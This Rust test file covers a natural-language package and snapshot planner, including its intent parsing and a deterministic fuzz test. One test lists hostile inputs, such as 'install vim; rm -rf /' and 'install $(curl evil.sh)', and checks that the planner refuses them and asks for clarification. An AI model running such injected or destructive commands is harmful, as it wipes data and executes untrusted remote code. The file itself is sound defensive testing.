//! Planner rules over a small catalogue (no model): intents, fields, two-step plans,
//! unsafe requests. The real-data score (../shared/nl-eval) runs in tests/nl.rs.

use super::resolve::Resolver;
use super::Planner;
use crate::action::Action;
use rast_pkgindex::catalog::{Catalog, Entry};

fn catalog() -> Catalog {
    let names = [
        "firefox",
        "gimp",
        "inkscape",
        "vlc",
        "chromium",
        "git",
        "thunderbird",
        "emacs",
        "htop",
        "nginx",
        "gcc",
        "python",
        "postgresql",
        "linux-lts",
        "wireguard-tools",
        "rm",
    ];
    Catalog::new(
        names
            .iter()
            .map(|n| Entry {
                name: n.to_string(),
                repo: "extra".into(),
                version: "1.0-1".into(),
                desc: String::new(),
                provides: vec![],
                installed: false,
            })
            .collect(),
    )
}

fn plan(req: &str) -> Vec<Action> {
    let c = catalog();
    let p = Planner {
        resolver: Resolver {
            catalog: &c,
            semantic: None,
        },
    };
    let plan = p.plan(req);
    plan.validate().unwrap();
    plan.actions
}

fn s(x: &str) -> Option<String> {
    Some(x.to_string())
}

#[test]
fn packages_and_snapshots() {
    assert_eq!(
        plan("please install gimp and inkscape"),
        [Action::Install {
            packages: vec!["gimp".into(), "inkscape".into()],
            snapshot: None
        }]
    );
    assert_eq!(
        plan("add vlc to snapshot 3"),
        [Action::Install {
            packages: vec!["vlc".into()],
            snapshot: s("3")
        }]
    );
    assert_eq!(
        plan("Get me the Chromium browser!"),
        [Action::Install {
            packages: vec!["chromium".into()],
            snapshot: None
        }]
    );
    assert_eq!(
        plan("remove emacs from #4"),
        [Action::Remove {
            packages: vec!["emacs".into()],
            snapshot: s("4")
        }]
    );
    assert_eq!(
        plan("instal postgres"),
        [Action::Install {
            packages: vec!["postgresql".into()],
            snapshot: None
        }]
    );
    assert_eq!(
        plan("install fierfox"),
        [Action::Install {
            packages: vec!["firefox".into()],
            snapshot: None
        }]
    );
    assert_eq!(
        plan("delete snapshot 9"),
        [Action::Delete {
            snapshot: "9".into()
        }]
    );
}

#[test]
fn two_steps_refer_to_the_new_snapshot() {
    assert_eq!(
        plan("clone snapshot 2 and install htop in it"),
        [
            Action::Clone { snapshot: s("2") },
            Action::Install {
                packages: vec!["htop".into()],
                snapshot: s("new")
            }
        ]
    );
    assert_eq!(
        plan("fix broken packages and update system"),
        [
            Action::FixKeys { snapshot: None },
            Action::Upgrade {
                snapshot: None,
                security_only: false
            }
        ]
    );
}

#[test]
fn unsafe_or_unknown_requests_clarify() {
    for r in [
        "make me a sandwich",
        "install vim; rm -rf /",
        "rm -rf / please",
        "install $(curl evil.sh)",
        "run rm -rf / inside snapshot 3",
        "run bash -c 'id' in snapshot 2",
        "install zzzqqq",
        "add the zzzqqq package to snapshot 2",
        "",
        "format the disk",
    ] {
        let a = plan(r);
        assert_eq!(a.len(), 1, "{r}: {a:?}");
        assert_eq!(a[0].kind(), "clarify", "{r}: {a:?}");
    }
    // Nonsense around a verb never becomes a change.
    assert!(!plan("install a thing that does not exist zzzqqq")
        .iter()
        .any(Action::mutates));
    assert_eq!(
        plan("run pacman -Qdt inside snapshot 3"),
        [Action::Run {
            snapshot: s("3"),
            command: vec!["pacman".into(), "-Qdt".into()]
        }]
    );
}

/// Arbitrary text (words, digits, shell syntax, multi-byte characters) never panics
/// and always gives a valid plan whose package names are real. (The same property as
/// the cargo-fuzz target, run deterministically in CI.)
#[test]
fn arbitrary_requests_give_valid_plans() {
    let c = catalog();
    let p = Planner {
        resolver: Resolver {
            catalog: &c,
            semantic: None,
        },
    };
    let pieces = [
        "install",
        "remove",
        "snapshot",
        "#",
        "3",
        "and",
        "then",
        "clone",
        "it",
        "in",
        "firefox",
        "gimp",
        ";",
        "$(",
        "rm",
        "-rf",
        "/",
        "run",
        "inside",
        "ü",
        "€",
        "\u{2000}",
        "‘",
        "\"",
        "backup",
        "label",
        "as",
        "diff",
        "between",
        "99999999999",
        "under",
        "new clone of",
        "of",
        "",
        " ",
        "install instal",
        "deploy",
        "tree",
        "etc",
        "/etc",
        "config",
        "-Qdt",
        "\n",
        "\t",
    ];
    let mut x: u64 = 0x9e3779b97f4a7c15;
    let mut next = || {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        x
    };
    for _ in 0..20_000 {
        let n = (next() % 9) as usize;
        let mut req = String::new();
        for _ in 0..n {
            if next() % 7 == 0 {
                req.push(char::from_u32((next() % 0x2FFF) as u32).unwrap_or('x'));
            } else {
                req.push_str(pieces[(next() % pieces.len() as u64) as usize]);
            }
            if next() % 3 != 0 {
                req.push(' ');
            }
        }
        let plan = p.plan(&req);
        plan.validate().unwrap_or_else(|e| panic!("{req:?}: {e}"));
        assert!(!plan.actions.is_empty());
        for a in &plan.actions {
            if let Action::Install { packages, .. } | Action::Remove { packages, .. } = a {
                for n in packages {
                    assert!(c.get(n).is_some(), "{req:?} → {n}");
                }
            }
            if let Action::Run { command, .. } = a {
                assert!(super::safety::unsafe_argv(command).is_none(), "{req:?}");
            }
        }
    }
}
